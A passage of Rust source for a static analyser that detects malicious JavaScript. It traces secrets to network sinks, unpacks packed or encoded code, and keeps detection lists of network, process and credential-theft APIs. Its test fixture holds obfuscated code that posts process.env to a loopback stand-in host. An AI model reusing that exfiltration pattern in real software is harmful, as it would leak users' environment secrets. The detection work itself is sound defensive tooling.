            "write" | "end" | "send" | "emit" | "sendMail" | "put" | "append" | "upload"
            | "uploadFrom" | "fastPut" => {
                let t = args.iter().fold(0, |acc, a| acc | self.taint(a, 0));
                let api = format!("{}.{method}", sink.api);
                self.push_flow(t, "network", &api, sink.destination.clone(), call.span);
            }
            _ => {}
        }
    }

    /// Dean Edwards' packer: `eval(function(p,a,c,k,e,d){...}('...',62,n,'..'.split('|'),0,{}))`.
    /// Unpacked statically: a word-for-index substitution, nothing runs.
    fn packer_payload(&self, arg: &Expression<'_>) -> Option<String> {
        let Expression::CallExpression(call) = arg.get_inner_expression() else {
            return None;
        };
        let Expression::FunctionExpression(f) = call.callee.get_inner_expression() else {
            return None;
        };
        if f.params.items.len() < 4 || call.arguments.len() < 4 {
            return None;
        }
        let arg = |i: usize| call.arguments.get(i).and_then(Argument::as_expression);
        let p = self.eval(arg(0)?, false, 0)?;
        let a: usize = self.eval(arg(1)?, false, 0)?.parse().ok()?;
        let c: usize = self.eval(arg(2)?, false, 0)?.parse().ok()?;
        let k = self.eval_array(arg(3)?, false, 0)?;
        if a == 0 || a > 256 {
            return None;
        }
        let body = self
            .source
            .get(f.span.start as usize..f.span.end as usize)
            .unwrap_or("");
        let base_encoded =
            body.contains("toString(36)") || body.contains("+29") || body.contains("e(c)");
        Some(unpack(&p, a, c.min(k.len()), &k, base_encoded))
    }

    fn check_eval(&mut self, sink: &str, arg: &Expression<'_>, span: Span) {
        if let Some(code) = self.packer_payload(arg) {
            let at = self.at(span);
            self.facts.decode_run.push(DecodeRunFact {
                sink: sink.to_owned(),
                decoder: "packer".to_owned(),
                at,
            });
            if self.decoded.len() < 8 {
                self.decoded.push((code, span.start));
            }
            return;
        }
        if let Expression::StringLiteral(lit) = arg.get_inner_expression() {
            // Literal code: nothing is hidden from a reader, but it is code of
            // this file all the same; analyse it (nested evals included).
            if lit.value.len() > 64 && self.decoded.len() < 8 {
                self.decoded.push((lit.value.to_string(), span.start));
            }
            return;
        }
        if let Some(decoder) = self.decoder(arg, 0) {
            let at = self.at(span);
            self.facts.decode_run.push(DecodeRunFact {
                sink: sink.to_owned(),
                decoder: decoder.to_owned(),
                at,
            });
            if let Some(code) = self.eval(arg, false, 0)
                && self.decoded.len() < 8
                && code.len() <= MAX_FOLDED
            {
                self.decoded.push((code, span.start));
            }
        } else {
            let t = self.taint(arg, 0);
            let decoder = if t & HTTPIN != 0 {
                "request-input"
            } else if t & NETRESP != 0 {
                "remote"
            } else {
                return;
            };
            let at = self.at(span);
            self.facts.decode_run.push(DecodeRunFact {
                sink: sink.to_owned(),
                decoder: decoder.to_owned(),
                at,
            });
        }
    }
}

impl<'a> Visit<'a> for Analyzer<'_> {
    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        if let Some(init) = &it.init {
            if let (
                BindingPattern::BindingIdentifier(id),
                Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_),
            ) = (&it.id, init.get_inner_expression())
            {
                self.pending_fn_name = Some(id.name.to_string());
            }
            self.visit_expression(init);
            self.pending_fn_name = None;
        }
        self.bind_pattern(&it.id, it.init.as_ref());
    }

    fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
        self.visit_expression(&it.right);
        if let Some(member) = it.left.as_member_expression() {
            if let Some(p @ ("src" | "href" | "action")) = member.static_property_name() {
                // `img.src = url + data`: a request the browser makes for us.
                let t = self.taint(&it.right, 0);
                if t & EXFIL_SOURCES != 0 {
                    let dest = self.eval(&it.right, true, 0);
                    let api = format!("element.{p}");
                    self.push_flow(t, "network", &api, dest.clone(), it.span);
                    self.push_network(Some(api), dest, it.span);
                }
            }
            let prop = member
                .static_property_name()
                .map(|p| p.to_string())
                .or_else(|| match member {
                    MemberExpression::ComputedMemberExpression(c) => {
                        self.eval(&c.expression, false, 0)
                    }
                    _ => None,
                });
            if prop.as_deref() == Some("NODE_TLS_REJECT_UNAUTHORIZED")
                && self.eval(&it.right, false, 0).as_deref() == Some("0")
            {
                self.other(
                    "tls-disabled",
                    "NODE_TLS_REJECT_UNAUTHORIZED = 0".to_owned(),
                    it.span,
                );
            }
        }
        match &it.left {
            AssignmentTarget::AssignmentTargetIdentifier(id) => {
                let name = id.name.as_str();
                if it.operator == AssignmentOperator::Assign {
                    self.bind(name, &it.right);
                } else {
                    let t = self.taint(&it.right, 0);
                    if t != 0 {
                        *self.holder(name).taint.entry(name.to_owned()).or_default() |= t;
                    }
                    match (
                        self.string_of(name).cloned(),
                        self.eval(&it.right, false, 0),
                    ) {
                        (Some(prev), Some(add)) if prev.len() + add.len() <= MAX_FOLDED => {
                            self.holder(name)
                                .strings
                                .insert(name.to_owned(), prev + &add);
                        }
                        (Some(prev), _) => {
                            // `d += chunk` with an unknown chunk: no longer a constant.
                            let h = self.holder(name);
                            h.strings.remove(name);
                            if prev.len() < MAX_FOLDED {
                                h.partials.insert(name.to_owned(), prev + "*");
                            }
                        }
                        _ => {}
                    }
                }
            }
            target => {
                // `data.env = process.env` taints `data`.
                if let Some(member) = target.as_member_expression() {
                    let t = self.taint(&it.right, 0);
                    if let Expression::Identifier(root) = member.object().get_inner_expression() {
                        let name = root.name.as_str();
                        if t != 0 {
                            *self.holder(name).taint.entry(name.to_owned()).or_default() |= t;
                        }
                        if let Some(prop) = member.static_property_name() {
                            let lit = self.eval(&it.right, false, 0);
                            let prop_name = prop.to_ascii_lowercase();
                            let h = self.holder(name);
                            if let Some(obj) = h.objects.get_mut(name) {
                                obj.insert(
                                    prop_name,
                                    Prop {
                                        literal: lit,
                                        taint: t,
                                    },
                                );
                            }
                        }
                    }
                }
                walk::walk_assignment_target(self, target);
            }
        }
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        self.handle_call(it);
        walk::walk_call_expression(self, it);
    }

    fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
        if let Some(name) = self.callee_name(&it.callee) {
            let args: Vec<&Expression<'_>> = it
                .arguments
                .iter()
                .filter_map(Argument::as_expression)
                .collect();
            match name.as_str() {
                "Function" | "vm.Script" | "AsyncFunction" => {
                    if let Some(body) = args.last() {
                        self.check_eval(&name, body, it.span);
                    }
                }
                "WebSocket" | "ws" | "ws.WebSocket" | "net.Socket" | "EventSource" => {
                    let dest = args.first().and_then(|a| self.eval(a, true, 0));
                    self.push_network(Some(name), dest, it.span);
                }
                "XMLHttpRequest" => self.push_network(Some(name), None, it.span),
                _ => {}
            }
        }
        walk::walk_new_expression(self, it);
    }

    fn visit_import_declaration(&mut self, it: &ImportDeclaration<'a>) {
        let module = normalise_module(it.source.value.as_str());
        if let Some(specs) = &it.specifiers {
            for s in specs {
                match s {
                    ImportDeclarationSpecifier::ImportSpecifier(s) => {
                        let imported = s.imported.name();
                        let local = s.local.name.as_str();
                        self.declare(local);
                        let full = if imported == "default" {
                            module.clone()
                        } else {
                            format!("{module}.{imported}")
                        };
                        self.top().modules.insert(local.to_owned(), full);
                    }
                    ImportDeclarationSpecifier::ImportDefaultSpecifier(s) => {
                        let local = s.local.name.as_str();
                        self.declare(local);
                        self.top().modules.insert(local.to_owned(), module.clone());
                    }
                    ImportDeclarationSpecifier::ImportNamespaceSpecifier(s) => {
                        let local = s.local.name.as_str();
                        self.declare(local);
                        self.top().modules.insert(local.to_owned(), module.clone());
                    }
                }
            }
        }
        self.record_import(Some(module), "import", it.span);
    }

    fn visit_export_from_declaration(&mut self, it: &ExportFromDeclaration<'a>) {
        self.record_import(
            Some(normalise_module(it.source.value.as_str())),
            "import",
            it.span,
        );
    }

    fn visit_export_all_declaration(&mut self, it: &ExportAllDeclaration<'a>) {
        self.record_import(
            Some(normalise_module(it.source.value.as_str())),
            "import",
            it.span,
        );
    }

    fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
        let module = self
            .eval(&it.source, false, 0)
            .map(|m| normalise_module(&m));
        self.record_import(module, "import()", it.span);
        walk::walk_import_expression(self, it);
    }

    fn visit_static_member_expression(&mut self, it: &StaticMemberExpression<'a>) {
        if self.is_process_env(it.object.get_inner_expression()) {
            self.env_fact(Some(it.property.name.as_str()), it.span);
            return;
        }
        if is_process_env_member(it) {
            // `process.env` used as a whole.
            self.env_fact(None, it.span);
            return;
        }
        walk::walk_static_member_expression(self, it);
    }

    fn visit_computed_member_expression(&mut self, it: &ComputedMemberExpression<'a>) {
        if matches!(it.object.get_inner_expression(), Expression::Identifier(id) if id.name == "process")
            && self.eval(&it.expression, false, 0).as_deref() == Some("env")
        {
            self.env_fact(None, it.span);
            return;
        }
        if self.is_process_env(it.object.get_inner_expression()) {
            let name = self.eval(&it.expression, false, 0);
            self.env_fact(Some(name.as_deref().unwrap_or("*")), it.span);
            self.visit_expression(&it.expression);
            return;
        }
        walk::walk_computed_member_expression(self, it);
    }

    fn visit_object_expression(&mut self, it: &ObjectExpression<'a>) {
        self.check_email_payload(it);
        // A tool definition as the protocol lists it (`{ name, description,
        // inputSchema }`): what low-level servers return from tools/list.
        let has = |key: &str| {
            it.properties.iter().any(|p| {
                matches!(p, ObjectPropertyKind::ObjectProperty(p) if p.key.static_name().is_some_and(|k| k == key))
            })
        };
        if has("inputSchema")
            && let Some(name) = self
                .property_text(it, &["name"])
                .filter(|n| !n.contains('*'))
        {
            let doc = self.property_text(it, &["description"]).unwrap_or_default();
            self.other("mcp-tool", tool_fact_detail(&name, &doc), it.span);
        }
        for p in &it.properties {
            if let ObjectPropertyKind::ObjectProperty(p) = p
                && p.key
                    .static_name()
                    .is_some_and(|k| k == "rejectUnauthorized")
                && matches!(p.value.get_inner_expression(), Expression::BooleanLiteral(b) if !b.value)
            {
                self.other(
                    "tls-disabled",
                    "rejectUnauthorized: false".to_owned(),
                    p.span,
                );
            }
        }
        walk::walk_object_expression(self, it);
    }

    fn visit_return_statement(&mut self, it: &ReturnStatement<'a>) {
        if let (Some(arg), Some(Some(key))) = (&it.argument, self.fn_stack.last()) {
            let t = self.taint(arg, 0);
            if t != 0 {
                let key = key.clone();
                *self.fn_returns.entry(key).or_default() |= t;
            }
        }
        walk::walk_return_statement(self, it);
    }

    fn visit_reg_exp_literal(&mut self, it: &RegExpLiteral<'a>) {
        let p = it.regex.pattern.text.as_str();
        // Discord tokens (`[\w-]{24}\.[\w-]{6}\.[\w-]{27}`, `mfa\.[\w-]{84}`).
        if (p.contains("{24}") && p.contains("{6}") && p.contains("{27}"))
            || p.contains("mfa\\.")
            || p.contains("{84}")
        {
            self.other("token-pattern", p.chars().take(80).collect(), it.span);
        }
    }

    fn visit_string_literal(&mut self, it: &StringLiteral<'a>) {
        let v = it.value.as_str();
        if (2..=40).contains(&v.len()) && v.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        {
            let raw = self
                .source
                .get(it.span.start as usize..it.span.end as usize)
                .unwrap_or("");
            if raw.contains("\\x") || raw.contains("\\u") {
                self.other("escaped-name", v.to_owned(), it.span);
            }
        }
        if v.len() >= 12 && v.to_ascii_lowercase().contains("<script") {
            let raw = self
                .source
                .get(it.span.start as usize..it.span.end as usize)
                .unwrap_or("");
            if let Some(src) = hidden_script_source(raw, v) {
                self.other("hidden-script-tag", src, it.span);
            }
        }
        self.scan_string(it.value.as_str(), it.span);
    }

    fn visit_template_literal(&mut self, it: &TemplateLiteral<'a>) {
        if !it.expressions.is_empty() {
            let expr_span = it.span;
            let folded = {
                let mut out = String::new();
                for (i, q) in it.quasis.iter().enumerate() {
                    out.push_str(
                        q.value
                            .cooked
                            .as_ref()
                            .map_or(q.value.raw.as_str(), |c| c.as_str()),
                    );
                    if let Some(e) = it.expressions.get(i) {
                        out.push_str(&self.eval(e, true, 0).unwrap_or_else(|| "*".to_owned()));
                    }
                    if out.len() > MAX_FOLDED {
                        break;
                    }
                }
                out
            };
            self.scan_string(&folded, expr_span);
        } else if let Some(q) = it.quasis.first() {
            let s = q
                .value
                .cooked
                .as_ref()
                .map_or(q.value.raw.as_str(), |c| c.as_str())
                .to_owned();
            self.scan_string(&s, it.span);
        }
        walk::walk_template_literal(self, it);
    }

    fn visit_binary_expression(&mut self, it: &BinaryExpression<'a>) {
        if it.operator == BinaryOperator::Addition
            && let (Some(l), Some(r)) =
                (self.eval(&it.left, true, 0), self.eval(&it.right, true, 0))
            && l.len() + r.len() <= 4096
        {
            self.scan_string(&(l + &r), it.span);
        }
        walk::walk_binary_expression(self, it);
    }

    fn visit_function(&mut self, it: &Function<'a>, flags: ScopeFlags) {
        if let Some(id) = &it.id {
            self.declare(id.name.as_str());
        }
        let taint = self
            .callback_taint
            .get(&it.span.start)
            .copied()
            .unwrap_or(0);
        let fn_name = it
            .id
            .as_ref()
            .map(|id| id.name.to_string())
            .or_else(|| self.pending_fn_name.take());
        let key = fn_name
            .clone()
            .map(|n| (self.scopes[self.scopes.len() - 1].id, n));
        self.scopes.push(Scope {
            id: it.span.start,
            ..Scope::default()
        });
        self.fn_stack.push(key);
        self.taint_params(&it.params, taint);
        self.apply_seeds(fn_name.as_deref(), &it.params);
        walk::walk_function(self, it, flags);
        self.fn_stack.pop();
        self.scopes.pop();
    }

    fn visit_arrow_function_expression(&mut self, it: &ArrowFunctionExpression<'a>) {
        let taint = self
            .callback_taint
            .get(&it.span.start)
            .copied()
            .unwrap_or(0);
        let fn_name = self.pending_fn_name.take();
        let key = fn_name
            .clone()
            .map(|n| (self.scopes[self.scopes.len() - 1].id, n));
        self.scopes.push(Scope {
            id: it.span.start,
            ..Scope::default()
        });
        self.fn_stack.push(key.clone());
        self.taint_params(&it.params, taint);
        self.apply_seeds(fn_name.as_deref(), &it.params);
        walk::walk_arrow_function_expression(self, it);
        if let (Some(body), Some(key)) = (it.body.as_expression(), key) {
            let t = self.taint(body, 0);
            if t != 0 {
                *self.fn_returns.entry(key).or_default() |= t;
            }
        }
        self.fn_stack.pop();
        self.scopes.pop();
    }
}

// ---- helpers --------------------------------------------------------------

fn binding_names(p: &BindingPattern<'_>, out: &mut Vec<String>) {
    match p {
        BindingPattern::BindingIdentifier(id) => out.push(id.name.to_string()),
        BindingPattern::ObjectPattern(o) => {
            for prop in &o.properties {
                binding_names(&prop.value, out);
            }
            if let Some(r) = &o.rest {
                binding_names(&r.argument, out);
            }
        }
        BindingPattern::ArrayPattern(a) => {
            for e in a.elements.iter().flatten() {
                binding_names(e, out);
            }
        }
        BindingPattern::AssignmentPattern(a) => binding_names(&a.left, out),
    }
}

/// An `mcp-tool` fact's detail, `name: description`, as the Python
/// checker writes it: whitespace collapsed, the description capped.
fn tool_fact_detail(name: &str, doc: &str) -> String {
    let doc: String = doc.split_whitespace().collect::<Vec<_>>().join(" ");
    let doc: String = doc.chars().take(MAX_TOOL_DOC_CHARS).collect();
    format!("{name}: {doc}")
}

fn is_function(e: &Expression<'_>) -> bool {
    matches!(
        e,
        Expression::ArrowFunctionExpression(_) | Expression::FunctionExpression(_)
    )
}

fn is_process_env_static(e: &Expression<'_>) -> bool {
    match e {
        Expression::StaticMemberExpression(m) => is_process_env_member(m),
        Expression::ComputedMemberExpression(m) => {
            static_string(&m.expression).as_deref() == Some("env")
                && matches!(m.object.get_inner_expression(), Expression::Identifier(id) if id.name == "process")
        }
        _ => false,
    }
}

/// Folds literal-only string expressions (`'en' + 'v'`), no bindings.
fn static_string(e: &Expression<'_>) -> Option<String> {
    match e.get_inner_expression() {
        Expression::StringLiteral(s) => Some(s.value.to_string()),
        Expression::TemplateLiteral(t) if t.expressions.is_empty() => t.quasis.first().map(|q| {
            q.value
                .cooked
                .as_ref()
                .map_or(q.value.raw.as_str(), |c| c.as_str())
                .to_owned()
        }),
        Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
            let l = static_string(&b.left)?;
            let r = static_string(&b.right)?;
            (l.len() + r.len() < 256).then(|| l + &r)
        }
        _ => None,
    }
}

fn is_process_env_member(m: &StaticMemberExpression<'_>) -> bool {
    m.property.name == "env"
        && match m.object.get_inner_expression() {
            Expression::Identifier(id) => id.name == "process",
            Expression::StaticMemberExpression(inner) => {
                inner.property.name == "process"
                    && matches!(inner.object.get_inner_expression(), Expression::Identifier(g) if matches!(g.name.as_str(), "global" | "globalThis" | "window"))
            }
            _ => false,
        }
}

fn env_taint(name: &str) -> Taint {
    let mut t = 0;
    if classify::is_secret_env(name) {
        t |= ENV_SECRET;
    }
    if classify::is_publish_token_env(name) {
        t |= PUBLISH_TOKEN;
    }
    if matches!(
        name.to_ascii_uppercase().as_str(),
        "USER"
            | "USERNAME"
            | "LOGNAME"
            | "HOSTNAME"
            | "COMPUTERNAME"
            | "USERDOMAIN"
            | "HOME"
            | "USERPROFILE"
    ) {
        t |= SYSINFO;
    }
    t
}

fn normalise_module(m: &str) -> String {
    let m = m.strip_prefix("node:").unwrap_or(m);
    match m {
        "fs/promises" => "fs".to_owned(),
        "dns/promises" => "dns".to_owned(),
        "child_process/promises" => "child_process".to_owned(),
        "request-promise" | "request-promise-native" | "requestretry" => "request".to_owned(),
        "axios/index" => "axios".to_owned(),
        _ => m.to_owned(),
    }
}

fn is_known_module(root: &str) -> bool {
    matches!(
        root,
        "child_process"
            | "http"
            | "https"
            | "http2"
            | "net"
            | "tls"
            | "dns"
            | "dgram"
            | "fs"
            | "os"
            | "vm"
            | "zlib"
            | "crypto"
            | "path"
    )
}

fn email_api_of(module: &str) -> Option<&'static str> {
    Some(match module {
        "postmark" => "postmark",
        "nodemailer" => "nodemailer",
        "@sendgrid/mail" | "@sendgrid/client" => "sendgrid",
        "resend" => "resend",
        "@aws-sdk/client-ses" | "@aws-sdk/client-sesv2" => "ses",
        "mailgun.js" | "mailgun-js" => "mailgun",
        "emailjs" | "smtp-client" | "smtp-connection" => "smtp",
        "@mailchimp/mailchimp_transactional" | "mailersend" | "brevo" | "@getbrevo/brevo" => {
            "transactional"
        }
        _ => return None,
    })
}

fn format_number(v: f64) -> String {
    if v.fract() == 0.0 && v.abs() < 1e15 {
        format!("{}", v as i64)
    } else {
        format!("{v}")
    }
}

/// Reverses Dean Edwards' packer: every word token of `p` that encodes an
/// index into `k` is replaced by that entry.
fn unpack(p: &str, base: usize, count: usize, k: &[String], base_encoded: bool) -> String {
    fn encode(c: usize, a: usize, base_encoded: bool) -> String {
        if !base_encoded {
            return c.to_string();
        }
        let mut out = if c < a {
            String::new()
        } else {
            encode(c / a, a, true)
        };
        let d = c % a;
        let ch = if d > 35 {
            u32::try_from(d + 29).ok().and_then(char::from_u32)
        } else {
            u32::try_from(d).ok().and_then(|d| char::from_digit(d, 36))
        };
        out.extend(ch);
        out
    }
    let mut map: HashMap<String, &str> = HashMap::new();
    for (i, word) in k.iter().enumerate().take(count) {
        if !word.is_empty() {
            map.insert(encode(i, base, base_encoded), word);
        }
    }
    static WORD: std::sync::LazyLock<regex::Regex> =
        std::sync::LazyLock::new(|| regex::Regex::new(r"\b\w+\b").expect("valid regex"));
    WORD.replace_all(p, |c: &regex::Captures<'_>| {
        let w = &c[0];
        map.get(w).map_or_else(|| w.to_owned(), |r| (*r).to_owned())
    })
    .into_owned()
}

fn decode_base64(s: &str) -> Option<String> {
    let clean: String = s.chars().filter(|c| !c.is_whitespace()).collect();
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(clean.as_bytes())
        .or_else(|_| {
            base64::engine::general_purpose::STANDARD_NO_PAD
                .decode(clean.trim_end_matches('=').as_bytes())
        })
        .or_else(|_| {
            base64::engine::general_purpose::URL_SAFE_NO_PAD
                .decode(clean.trim_end_matches('=').as_bytes())
        })
        .ok()?;
    String::from_utf8(bytes).ok()
}

fn decode_hex(s: &str) -> Option<String> {
    let s = s.trim();
    if !s.len().is_multiple_of(2) {
        return None;
    }
    let bytes: Option<Vec<u8>> = (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(s.get(i..i + 2)?, 16).ok())
        .collect();
    String::from_utf8(bytes?).ok()
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%'
            && i + 2 < b.len()
            && let Ok(v) = u8::from_str_radix(&s[i + 1..i + 3], 16)
        {
            out.push(v);
            i += 3;
            continue;
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

pub(crate) fn is_network_api(name: &str) -> bool {
    matches!(
        name,
        "http.request"
            | "http.get"
            | "https.request"
            | "https.get"
            | "http2.connect"
            | "net.connect"
            | "net.createConnection"
            | "tls.connect"
            | "dgram.createSocket"
            | "dns.lookup"
            | "dns.resolve"
            | "dns.resolve4"
            | "dns.resolve6"
            | "dns.resolveTxt"
            | "dns.resolveAny"
            | "dns.resolveCname"
            | "dns.resolveMx"
            | "dns.promises.lookup"
            | "dns.promises.resolve"
            | "dns.promises.resolveTxt"
            | "fetch"
            | "node-fetch"
            | "cross-fetch"
            | "isomorphic-fetch"
            | "undici.fetch"
            | "undici.request"
            | "axios"
            | "axios.get"
            | "axios.post"
            | "axios.put"
            | "axios.patch"
            | "axios.request"
            | "axios.delete"
            | "got"
            | "got.get"
            | "got.post"
            | "got.put"
            | "request"
            | "request.get"
            | "request.post"
            | "superagent.get"
            | "superagent.post"
            | "needle"
            | "needle.post"
            | "needle.get"
            | "phin"
            | "bent"
            | "ky"
            | "ky.post"
            | "ky.get"
            | "navigator.sendBeacon"
            | "sync-request"
            | "$.ajax"
            | "$.post"
            | "$.get"
            | "jQuery.ajax"
            | "jQuery.post"
            | "socket.io-client"
            | "socket.io-client.io"
            | "socket.io-client.connect"
    )
}

/// `localStorage`, `sessionStorage`, as globals or members (`iframe.contentWindow.localStorage`).
fn is_storage(e: &Expression<'_>) -> bool {
    match e.get_inner_expression() {
        Expression::Identifier(id) => matches!(id.name.as_str(), "localStorage" | "sessionStorage"),
        Expression::StaticMemberExpression(m) => {
            matches!(m.property.name.as_str(), "localStorage" | "sessionStorage")
        }
        _ => false,
    }
}

/// A storage key that names a credential.
fn is_token_key(key: &str) -> bool {
    let k = key.to_ascii_lowercase();
    ["token", "jwt", "auth", "session", "password", "secret"]
        .iter()
        .any(|w| k.contains(w))
}

/// Constructors whose instances receive data from the network.
fn is_network_ctor(name: &str) -> bool {
    matches!(
        name,
        "WebSocket" | "ws" | "ws.WebSocket" | "net.Socket" | "EventSource" | "XMLHttpRequest"
    )
}

pub(crate) fn is_process_api(name: &str) -> bool {
    matches!(
        name,
        "child_process.exec"
            | "child_process.execSync"
            | "child_process.spawn"
            | "child_process.spawnSync"
            | "child_process.execFile"
            | "child_process.execFileSync"
            | "child_process.fork"
            | "shelljs.exec"
            | "execa"
            | "execa.command"
            | "execa.execa"
            | "execa.commandSync"
            | "execa.execaSync"
            | "cross-spawn"
            | "cross-spawn.sync"
            | "Bun.spawn"
            | "Bun.spawnSync"
    )
}

fn is_eval_api(name: &str) -> bool {
    matches!(
        name,
        "eval"
            | "Function"
            | "vm.runInThisContext"
            | "vm.runInNewContext"
            | "vm.runInContext"
            | "vm.compileFunction"
    )
}

fn is_fs_read_api(name: &str) -> bool {
    matches!(
        name,
        "fs.readFileSync"
            | "fs.readFile"
            | "fs.createReadStream"
            | "fs.readdirSync"
            | "fs.readdir"
            | "fs.promises.readFile"
            | "fs.promises.readdir"
            | "fs-extra.readFile"
            | "fs-extra.readFileSync"
            | "fs-extra.readJson"
            | "fs-extra.readJsonSync"
    )
}

fn is_fs_write_api(name: &str) -> bool {
    matches!(
        name,
        "fs.writeFileSync"
            | "fs.writeFile"
            | "fs.appendFileSync"
            | "fs.appendFile"
            | "fs.createWriteStream"
            | "fs.copyFileSync"
            | "fs.copyFile"
            | "fs.promises.writeFile"
            | "fs.promises.appendFile"
            | "fs-extra.outputFile"
            | "fs-extra.outputFileSync"
            | "fs-extra.writeJson"
            | "fs-extra.writeJsonSync"
            | "fs-extra.writeFile"
            | "fs-extra.writeFileSync"
    )
}

fn is_sysinfo_api(name: &str) -> bool {
    matches!(
        name,
        "os.hostname" | "os.userInfo" | "os.networkInterfaces" | "dns.getServers"
    )
}

fn decode_kind(name: &str, call: &CallExpression<'_>, a: &Analyzer<'_>) -> Option<&'static str> {
    Some(match name {
        "atob" => "base64",
        "String.fromCharCode" | "String.fromCodePoint" => "char-codes",
        "decodeURIComponent" | "unescape" => "percent",
        "zlib.inflateSync"
        | "zlib.gunzipSync"
        | "zlib.unzipSync"
        | "zlib.brotliDecompressSync"
        | "zlib.inflateRawSync" => "compressed",
        "crypto.createDecipheriv" | "crypto.createDecipher" => "cipher",
        "Buffer.from" if matches!(call.arguments.first().and_then(Argument::as_expression).map(|e| e.get_inner_expression()), Some(Expression::ArrayExpression(a)) if a.elements.len() > 8) => {
            "bytes"
        }
        "Buffer.from" => {
            let enc = call
                .arguments
                .get(1)
                .and_then(Argument::as_expression)
                .and_then(|e| a.eval(e, false, 0))?;
            match enc.as_str() {
                "base64" | "base64url" => "base64",
                "hex" => "hex",
                _ => return None,
            }
        }
        _ => {
            // `decipher.update(...)`
            if (name.ends_with(".update") || name.ends_with(".final"))
                && let Expression::StaticMemberExpression(m) = &call.callee
                && let Expression::Identifier(id) = m.object.get_inner_expression()
                && a.decoder_of_name(id.name.as_str()) == Some("cipher")
            {
                return Some("cipher");
            }
            return None;
        }
    })
}

fn is_decode_api(name: &str, call: &CallExpression<'_>, a: &Analyzer<'_>) -> bool {
    decode_kind(name, call, a).is_some()
}

fn options_destination(opts: &HashMap<String, Prop>) -> Option<String> {
    for key in ["url", "hostname", "host", "baseurl", "uri"] {
        if let Some(lit) = opts.get(key).and_then(|p| p.literal.clone()) {
            if key == "url" || key == "uri" || key == "baseurl" {
                return Some(lit);
            }
            let path = opts
                .get("path")
                .and_then(|p| p.literal.clone())
                .unwrap_or_default();
            let scheme = if opts.get("port").and_then(|p| p.literal.as_deref()) == Some("80") {
                "http"
            } else {
                "https"
            };
            return Some(format!("{scheme}://{lit}{path}"));
        }
    }
    None
}

/// Parses a destination for rules (re-exported for them).
pub(crate) fn parse_destination(s: &str) -> Option<Destination> {
    classify::destination(s)
}

/// The external address of a `<script src>` tag written so that a reader
/// cannot see it: the literal spelled in `\x`/`\u` escapes, or the address
/// in HTML character references (`&#x68;&#x74;...`). `None` for a plain tag,
/// a relative or loopback address.
fn hidden_script_source(raw: &str, value: &str) -> Option<String> {
    let lower = value.to_ascii_lowercase();
    let at = lower.find("<script")?;
    let tag_end = lower[at..].find('>').map_or(lower.len(), |e| at + e);
    let tag = &value[at..tag_end];
    let src_at = tag.to_ascii_lowercase().find("src")?;
    let rest = tag[src_at + 3..]
        .trim_start()
        .strip_prefix('=')?
        .trim_start();
    let (quoted, rest) = match rest.chars().next() {
        Some('"' | '\'') => (true, &rest[1..]),
        _ => (false, rest),
    };
    let end = rest
        .find(|c: char| {
            if quoted {
                c == '"' || c == '\''
            } else {
                c.is_whitespace()
            }
        })
        .unwrap_or(rest.len());
    let written = &rest[..end];
    let entities = written.contains("&#");
    let decoded = decode_char_refs(written);
    // Escapes: most of the literal's source is `\x..`/`\u....`.
    let escapes = raw.matches("\\x").count() + raw.matches("\\u").count();
    let escaped = escapes * 4 >= raw.len() / 2;
    if !(entities || escaped) {
        return None;
    }
    let url = decoded.trim();
    let host = url
        .strip_prefix("https://")
        .or_else(|| url.strip_prefix("http://"))
        .or_else(|| url.strip_prefix("//"))?
        .split(['/', ':', '?', '#'])
        .next()?
        .to_ascii_lowercase();
    if host.is_empty() || host == "localhost" || host.starts_with("127.") {
        return None;
    }
    Some(url.chars().take(200).collect())
}

/// Decodes HTML numeric character references (`&#x68;`, `&#104;`).
fn decode_char_refs(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(i) = rest.find("&#") {
        out.push_str(&rest[..i]);
        let after = &rest[i + 2..];
        let (hex, digits) = match after.strip_prefix(['x', 'X']) {
            Some(h) => (true, h),
            None => (false, after),
        };
        let n = digits
            .find(|c: char| !c.is_ascii_hexdigit())
            .unwrap_or(digits.len());
        let code = if hex {
            u32::from_str_radix(&digits[..n], 16).ok()
        } else {
            digits[..n].parse::<u32>().ok()
        };
        match code.and_then(char::from_u32) {
            Some(c) if n > 0 => {
                out.push(c);
                let skip = n + usize::from(digits[n..].starts_with(';'));
                rest = &digits[skip..];
            }
            _ => {
                out.push_str("&#");
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts(src: &str) -> Facts {
        let r = analyse("index.js", src, JsKind::Script);
        assert!(r.parse_error.is_none(), "{:?}", r.parse_error);
        r.facts
    }

    #[test]
    fn folds_concatenation_into_destinations() {
        let f =
            facts("const a = 'gift'; const host = 'https://' + a + 'shop.invalid/x'; fetch(host);");
        let call = f.network.iter().find(|n| n.api.is_some()).expect("call");
        assert_eq!(
            call.destination.as_deref(),
            Some("https://giftshop.invalid/x")
        );
        assert_eq!(call.host.as_deref(), Some("giftshop.invalid"));
    }

    #[test]
    fn reads_through_obfuscator_string_arrays() {
        // The shape javascript-obfuscator emits: a rotated string array, a
        // decoder with an index offset, a wrapper, `process[...]` by name.
        let f = facts(
            r"
function _0xa(){const x=['post','4zz','3abc','env','http://127.0.0.1:9/c','got'];_0xa=function(){return x;};return _0xa();}
function _0xd(i,k){const a=_0xa();return _0xd=function(j,l){j=j-0x10;let v=a[j];return v;},_0xd(i,k);}
function _0xw(p,q){return _0xd(q- -0x1,p);}
(function(f,t){const g=_0xd,arr=f();while(!![]){try{const c=parseInt(g(0x10))+parseInt(g(0x15))*0x2;if(c===t)break;else arr['push'](arr['shift']());}catch(e){arr['push'](arr['shift']());}}}(_0xa,0xb));
const got=require(_0xd(0x13));
got[_0xw(0x0,0x13)](_0xd(0x12),{json:process[_0xd(0x11)]});
",
        );
        assert!(f.imports.iter().any(|i| i.module.as_deref() == Some("got")));
